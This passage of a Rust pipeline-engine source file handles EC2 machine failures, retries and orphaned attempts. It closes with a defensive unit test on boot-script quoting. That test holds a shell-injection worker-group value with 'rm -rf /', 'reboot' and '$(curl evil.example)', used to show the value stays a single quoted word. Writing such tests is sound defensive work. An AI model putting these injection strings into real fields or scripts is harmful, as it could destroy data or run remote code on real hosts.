        let mut next = instance.record.clone();
        next.status = apply(next.status, Event::ResourceFailed { retry: true })?;
        next.attempts = attempt.record.number + 1;
        next.error = why.clone();
        let message = why.error_message.clone().unwrap_or_default();
        next.waiting_on = vec![format!(
            "a new machine at {} (launch {} of {}), after attempt {}: {message}",
            format_datetime(available_at),
            number_in_run + 1,
            spec.retry.maximum_retries + 1,
            attempt.record.number
        )];
        let mut retry_attempt = AttemptRecord::waiting(
            &next,
            next.attempts,
            AttemptKind::Resource,
            attempt.record.worker_group.clone(),
            available_at,
        );
        retry_attempt.status = Status::Creating;
        retry_attempt.check_at = Some(available_at);
        let mut writes = vec![attempt.replace(&ended)?, create(&retry_attempt)?];
        // actionOnResourceFailure: retryall (the default) hands the tasks it ran to the next
        // machine; retrynone fails them.
        if fields
            .first("actionOnResourceFailure")
            .is_some_and(|action| action.eq_ignore_ascii_case("retrynone"))
        {
            writes.extend(self.fail_work_on(&ended, &[Status::Running], now).await?);
        } else {
            writes.extend(self.take_back_tasks(&ended, now).await?);
        }
        writes.push(instance.replace(&next)?);
        report.wrote(self.store.transact(writes).await?);
        Ok(())
    }

    async fn resource_failed_for_good(
        &self,
        spec: &ComponentSpec,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        why: ErrorDetails,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        self.end_in_failure(
            spec,
            attempt,
            instance,
            Event::ResourceFailed { retry: false },
            why,
            report,
        )
        .await
    }

    /// The resource ends for good by `event` (FAILED, TIMEDOUT): the attempt and the
    /// instance with `why`, its onFail actions, and the work still open on it failed too.
    async fn end_in_failure(
        &self,
        spec: &ComponentSpec,
        attempt: Stored<AttemptRecord>,
        instance: Stored<InstanceRecord>,
        event: Event,
        why: ErrorDetails,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let now = self.now();
        let ended = AttemptRecord {
            status: apply(attempt.record.status, event)?,
            ended_at: Some(now),
            check_at: None,
            error: why.clone(),
            ..attempt.record.clone()
        };
        let mut next = instance.record.clone();
        next.status = apply(next.status, event)?;
        next.error = why;
        let mut writes = vec![attempt.replace(&ended)?];
        self.end(&mut next, now, EventKind::Failure, &spec.on_fail, &mut writes)?;
        writes.extend(self.fail_work_on(&ended, OPEN_WORK, now).await?);
        writes.push(instance.replace(&next)?);
        report.wrote(self.store.transact(writes).await?);
        Ok(())
    }

    /// The running tasks of the machine's worker group, with their leases ended now: the
    /// reap stage takes each back as it would from a runner that vanished, and the next
    /// machine's runner (the same worker group) picks them up.
    async fn take_back_tasks(&self, attempt: &AttemptRecord, now: NaiveDateTime) -> Result<Vec<Write>, EngineError> {
        let (_, open) = self.open_work_on(attempt, &[Status::Running]).await?;
        let mut writes = Vec::new();
        for (_, task) in open {
            let Some(task) = task else { continue };
            if task.record.status != Status::Running || task.record.worker_group != attempt.worker_group {
                continue;
            }
            let lapsed = AttemptRecord {
                lease_until: Some(now),
                ..task.record.clone()
            };
            writes.push(task.replace(&lapsed)?);
        }
        Ok(writes)
    }

    /// The work on the resource instance of `resource` whose status is one of `statuses`,
    /// each with its current attempt, read in two requests; and the compiled definition.
    pub(super) async fn open_work_on(
        &self,
        resource: &AttemptRecord,
        statuses: &[Status],
    ) -> Result<(Arc<CompiledPipeline>, OpenWork), EngineError> {
        let pipeline = self.pipeline(&resource.pipeline_id).await?;
        let compiled = self.compiled(&pipeline.record).await?;
        let Some(spec) = compiled.component(&resource.component_id) else {
            return Ok((compiled, Vec::new()));
        };
        let instance_keys: Vec<Key> = compiled
            .resource_dependants(spec, resource.scheduled_start)
            .iter()
            .map(|(component, start)| keys::instance(&resource.pipeline_id, component, *start))
            .collect();
        let mut open = Vec::new();
        for item in self.store.get_many(&instance_keys).await? {
            if let Some(instance) = records::decode::<InstanceRecord>(item.as_ref())?
                && statuses.contains(&instance.record.status)
            {
                open.push(instance);
            }
        }
        if open.is_empty() {
            return Ok((compiled, Vec::new()));
        }
        let attempt_keys: Vec<Key> = open
            .iter()
            .map(|instance| {
                let record = &instance.record;
                keys::attempt(
                    &record.pipeline_id,
                    &record.component_id,
                    record.scheduled_start,
                    record.attempts,
                )
            })
            .collect();
        let mut work = Vec::with_capacity(open.len());
        for (instance, item) in open.into_iter().zip(self.store.get_many(&attempt_keys).await?) {
            work.push((instance, records::decode::<AttemptRecord>(item.as_ref())?));
        }
        Ok((compiled, work))
    }

    /// The resource is gone for good (its launches spent, TIMEDOUT): the work that runs
    /// on it and has not ended fails too, with the resource's error, since no runner will
    /// ever take it; its consumers then cascade as usual. With `actionOnResourceFailure`
    /// retrynone, a lost machine fails the tasks it ran (`statuses`: RUNNING only).
    async fn fail_work_on(
        &self,
        resource: &AttemptRecord,
        statuses: &[Status],
        now: NaiveDateTime,
    ) -> Result<Vec<Write>, EngineError> {
        let (compiled, open) = self.open_work_on(resource, statuses).await?;
        if open.is_empty() {
            return Ok(Vec::new());
        }
        let mut component_ids: Vec<String> = open
            .iter()
            .map(|(instance, _)| instance.record.component_id.clone())
            .collect();
        component_ids.sort();
        component_ids.dedup();
        let component_keys: Vec<Key> = component_ids
            .iter()
            .map(|component| keys::component(&resource.pipeline_id, component))
            .collect();
        let components = self.store.get_many(&component_keys).await?;
        let why = failure(
            "Sluice.ResourceFailed",
            format!(
                "it runs on {}, which {}: {}",
                resource.id(),
                if resource.status == Status::TimedOut {
                    "timed out"
                } else {
                    "failed"
                },
                resource.error.error_message.as_deref().unwrap_or("no error message")
            ),
        );
        let mut writes = Vec::new();
        for (instance, attempt) in &open {
            if let Some(attempt) = attempt
                && !attempt.record.status.is_terminal()
            {
                let failed = AttemptRecord {
                    status: apply(attempt.record.status, Event::AttemptFailed { retry: false })?,
                    ended_at: Some(now),
                    error: why.clone(),
                    ..attempt.record.clone()
                };
                writes.push(attempt.replace(&failed)?);
            }
            let mut next = instance.record.clone();
            next.status = apply(next.status, Event::AttemptFailed { retry: false })?;
            next.error = why.clone();
            let on_fail = compiled
                .component(&next.component_id)
                .map(|spec| spec.on_fail.clone())
                .unwrap_or_default();
            self.end(&mut next, now, EventKind::Failure, &on_fail, &mut writes)?;
            writes.push(instance.replace(&next)?);
        }
        // Each failed run leaves its component's maxActiveInstances count.
        for (component_id, item) in component_ids.iter().zip(components) {
            let Some(component) = records::decode::<records::ComponentRecord>(item.as_ref())? else {
                continue;
            };
            let ended = open
                .iter()
                .filter(|(instance, _)| &instance.record.component_id == component_id)
                .count();
            let released = records::ComponentRecord {
                active: component
                    .record
                    .active
                    .saturating_sub(u32::try_from(ended).unwrap_or(u32::MAX)),
                ..component.record.clone()
            };
            writes.push(component.replace(&released)?);
        }
        Ok(writes)
    }

    /// EC2 failed for now: look again later, saying why.
    async fn ec2_later(
        &self,
        attempt: Stored<AttemptRecord>,
        error: ComputeError,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let now = self.now();
        report
            .problems
            .push(format!("resource {}: {error}", attempt.record.id()));
        self.look_again(attempt, add_or_max(now, EC2_AGAIN.min(self.limits.recheck)), report)
            .await
    }

    async fn look_again(
        &self,
        attempt: Stored<AttemptRecord>,
        at: NaiveDateTime,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        let next = AttemptRecord {
            check_at: Some(at),
            ..attempt.record.clone()
        };
        report.wrote(self.store.write(attempt.replace(&next)?).await?);
        Ok(())
    }

    /// An attempt whose instance moved on or disappeared: its machine is terminated and
    /// the attempt canceled.
    async fn give_back_orphan<C: Compute>(
        &self,
        compute: &C,
        attempt: Stored<AttemptRecord>,
        report: &mut StepReport,
    ) -> Result<(), EngineError> {
        if let Some(machine) = &attempt.record.machine
            && let Err(error) = compute.terminate(&machine.id).await
        {
            return self.ec2_later(attempt, error, report).await;
        }
        let now = self.now();
        let ended = AttemptRecord {
            status: apply(attempt.record.status, Event::Cancel)?,
            ended_at: Some(now),
            check_at: None,
            ..attempt.record.clone()
        };
        report.wrote(self.store.write(attempt.replace(&ended)?).await?);
        Ok(())
    }
}

fn gone_message(machine: &MachineRecord, state: &MachineState) -> ErrorDetails {
    let market = if machine.spot { "spot" } else { "on-demand" };
    match state {
        state if state.interrupted() => failure(
            "Sluice.SpotInterruption",
            format!("EC2 took back spot machine {} (a spot interruption)", machine.id),
        ),
        MachineState::Terminated { reason: Some(reason) } => failure(
            "Sluice.MachineLost",
            format!("{market} machine {} ended before its work: {reason}", machine.id),
        ),
        _ => failure(
            "Sluice.MachineLost",
            format!("{market} machine {} ended before its work", machine.id),
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_worker_group_that_tries_to_break_out_of_the_boot_script_stays_one_quoted_word() {
        // Given a worker group with a quote, a command, newlines and substitutions
        let boot = Boot {
            runner_binary_uri: Some("s3://deploy/sluice".to_owned()),
            api_url: Some("https://api.example/".to_owned()),
            ..Boot::default()
        };
        let group = "df-1/@Box'; rm -rf / #\nreboot\r\n$(curl evil.example)`id`\u{7}";
        // When the boot script is made for it
        let script = user_data(&boot, group).unwrap();
        // Then it is exactly this: the group's control characters gone, its quote escaped,
        // the same quoted word in the comment and on the command line
        let word = r"'df-1/@Box'\''; rm -rf / #reboot$(curl evil.example)`id`'";
        assert_eq!(
            script,
            format!(
                "#!/bin/bash\n\
                 # Sluice: the Task Runner of {word}\n\
                 set -eu\n\
                 aws s3 cp 's3://deploy/sluice' /usr/local/bin/sluice\n\
                 chmod +x /usr/local/bin/sluice\n\
                 exec /usr/local/bin/sluice runner --worker-group {word} --endpoint 'https://api.example/' \
                 --hostname \"$(hostname)\"\n"
            )
        );
        // and bash reads the command line's words as given, running nothing of the group
        let command = script
            .lines()
            .last()
            .unwrap()
            .replace("exec /usr/local/bin/sluice", "printf '%s\\n'");
        let output = std::process::Command::new("bash")
            .args(["-c", &command])
            .output()
            .unwrap();
        let words: Vec<String> = String::from_utf8(output.stdout)
            .unwrap()
            .lines()
            .map(str::to_owned)
            .collect();
        assert_eq!(
            words[..5],
            [
                "runner",
                "--worker-group",
                "df-1/@Box'; rm -rf / #reboot$(curl evil.example)`id`",
                "--endpoint",
                "https://api.example/"
            ]
        );
    }
}
